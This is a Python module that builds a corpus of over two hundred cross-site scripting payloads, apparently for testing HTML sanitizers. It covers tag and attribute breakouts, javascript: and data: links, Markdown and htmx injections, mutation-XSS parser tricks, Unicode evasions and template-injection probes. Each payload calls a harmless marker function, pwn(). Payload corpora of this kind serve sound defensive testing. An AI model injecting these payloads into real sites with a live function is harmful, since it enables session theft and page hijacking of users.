"""More than two hundred ways to make a page run what somebody wrote, each of which calls ``pwn()``.

Made by combining how one gets out of where text stands with what then runs, and forms of their own.
"""

from itertools import product

# Where text may stand, and how it gets out of there.
OUT = (
    *("", '">', "'>", "-->", "--></script>", "</title>", "</textarea>", "</style>", "]]>", "</select>"),
    *("</noscript>", "</svg>", "</math>"),
)
# What runs by itself, or by the least a person does.
RUN = (
    "<script>pwn()</script>",
    "<ScRiPt\t>pwn()</sCrIpT >",
    "<img src=/pwn.png onerror=pwn()>",
    "<img/src='/pwn.png'/onerror='pwn()'/>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<body onload=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src='javascript:parent.pwn()'></iframe>",
    "<math><a xlink:href='javascript:pwn()' href='javascript:pwn()'>x</a></math>",
)
# Out of the quotes of an attribute, and into another one.
ATTRIBUTES = tuple(
    f"{quote}{gap}{does}{gap}x={quote}"
    for quote, gap, does in product(
        ('"', "'"),
        (" ", "\t"),
        ("onmouseover=pwn()", "onfocus=pwn() autofocus", "onclick=pwn()", "onpointerenter=pwn()"),
    )
)
LINKS = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "javascript://%0apwn()",
    "javascript:/*x*/pwn()",
    "&#106;avascript:pwn()",
    "javascript&colon;pwn()",
    "data:text/html,<script>parent.pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
    "vbscript:pwn()",
)
MARKDOWN = (
    *(f"[x]({link.strip()})" for link in LINKS[:8]),
    "![x](javascript:pwn())",
    '![x](/pwn.png "x\\" onerror=pwn() y=\\"")',
    '[x](/y "z\\" onmouseover=pwn() y=\\"")',
    "<javascript:pwn()>",
    "[x][y]\n\n[y]: javascript:pwn()",
    "[x](<javascript:pwn()>)",
    "`<img src=/pwn.png onerror=pwn()>`",
    "```\n</code></pre><script>pwn()</script>\n```",
    "**<svg onload=pwn()>**",
    "> <img src=/pwn.png onerror=pwn()>",
    "[<img src=/pwn.png onerror=pwn()>](/y)",
)
HTMX = (
    "<b hx-get=/pwn hx-trigger=load>x</b>",
    '<b data-hx-get="/pwn" data-hx-trigger="load">x</b>',
    '<b hx-on:click="pwn()">x</b>',
    '<b data-hx-on:click="pwn()">x</b>',
    '<b hx-on::load="pwn()">x</b>',
    '" hx-get="/pwn" hx-trigger="load" x="',
    "' hx-post='/pwn' hx-trigger='load' x='",
    '" hx-on:click="pwn()" x="',
    '<template hx type="partial" hx-target="body"><script>pwn()</script></template>',
    '<hx-partial hx-target="body"><script>pwn()</script></hx-partial>',
    '<b hx-vals="js:{a: pwn()}" hx-get=/pwn hx-trigger=load>x</b>',
    '<b hx-get="javascript:pwn()" hx-trigger=load>x</b>',
    '<div hx-swap-oob="true" id="main"><img src=/pwn.png onerror=pwn()></div>',
)
# What a filter takes for harmless and a parser does not.
MUTATED = (
    '<noscript><p title="</noscript><img src=/pwn.png onerror=pwn()>">',
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=/pwn.png onerror=pwn()&gt;'>"
    ),
    '<svg></p><style><a id="</style><img src=/pwn.png onerror=pwn()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=/pwn.png onerror=pwn()>",
    "<!--<img src='--><img src=/pwn.png onerror=pwn()//'>",
    "<![CDATA[<img src=/pwn.png onerror=pwn()>]]>",
    "<xmp><p title='</xmp><svg/onload=pwn()>'>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><set onbegin=pwn() attributename=x>",
    "<<script>pwn()//<</script>",
    "<img src=/pwn.png onerror\n=\npwn()>",
    "<img src=/pwn.png onerror=&#112;wn()>",
    "<base href=//elsewhere.example/><script src=pwn.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<object data='javascript:parent.pwn()'></object>",
    "<embed src='javascript:parent.pwn()'>",
    "<button form=x formaction=javascript:pwn()>x</button><form id=x>",
    "<a href=javascript:pwn()>x</a>",
    "<video><source onerror=pwn()>",
    "<style>@import'javascript:pwn()';</style><p style=x:expression(pwn())>",
    "<link rel=stylesheet href='javascript:pwn()' onerror=pwn()>",
)
# Escaped once too often or too little, letters that look like others, and what ends lines.
UNICODE = (
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "\u202e<img src=/pwn.png onerror=pwn()>",
    "<\u200bscript>pwn()</script>",
    "<img src=/pwn.png onerror=pwn()>\u2028<script>pwn()</script>",
    "\ufeff<svg onload=pwn()>",
    "<\u017fcript>pwn()</\u017fcript>",
    "&#x3c;img src=/pwn.png onerror=pwn()&#x3e;",
    "\u02ba onmouseover=pwn() x=\u02ba",
)
DATA = (
    '"}</script><script>pwn()</script>',
    "</script><svg onload=pwn()>",
    '"};pwn();//',
    "</SCRIPT\t><img src=/pwn.png onerror=pwn()>",
    "<!--<script>",
    "*/pwn()/*",
    "${pwn()}",
    "`;pwn();`",
    "';pwn();'",
    '\\";pwn();//',
)
TEMPLATES = (
    "{{7*7}}{{pwn()}}",
    "{% if 1 %}pwn(){{7*7}}{% endif %}",
    "{{''.__class__.__mro__}}{{7*7}}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "{{constructor.constructor('pwn()')()}}",
)

_OTHERS = (*ATTRIBUTES, *LINKS, *MARKDOWN, *HTMX, *MUTATED, *UNICODE, *DATA, *TEMPLATES)
PAYLOADS = tuple(dict.fromkeys((*_OTHERS, *(out + run for run, out in product(RUN, OUT)))))
